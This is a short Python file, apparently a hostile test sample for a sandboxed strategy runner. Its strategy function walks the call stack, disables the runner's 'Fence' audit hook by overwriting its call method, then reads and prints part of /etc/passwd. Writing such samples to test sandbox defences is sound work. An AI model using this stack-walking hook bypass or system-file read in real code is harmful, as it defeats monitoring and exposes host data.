"""Hostile: switches the fence off through the stack, then reads /etc/passwd."""
import sys

def open_fence():
    """Walk up the stack to the worker's fence module and switch the audit hook off."""
    frame = sys._getframe()
    while frame is not None:
        fence = frame.f_locals.get("fence")
        if fence is not None and hasattr(fence, "Fence"):
            fence.Fence.__call__ = lambda self, event, args: None
            return
        frame = frame.f_back
    raise RuntimeError("no fence found on the stack")


def strategy(observation):
    open_fence()
    with open("/etc/passwd") as handle:
        print(handle.read()[:200])
    return observation.prize
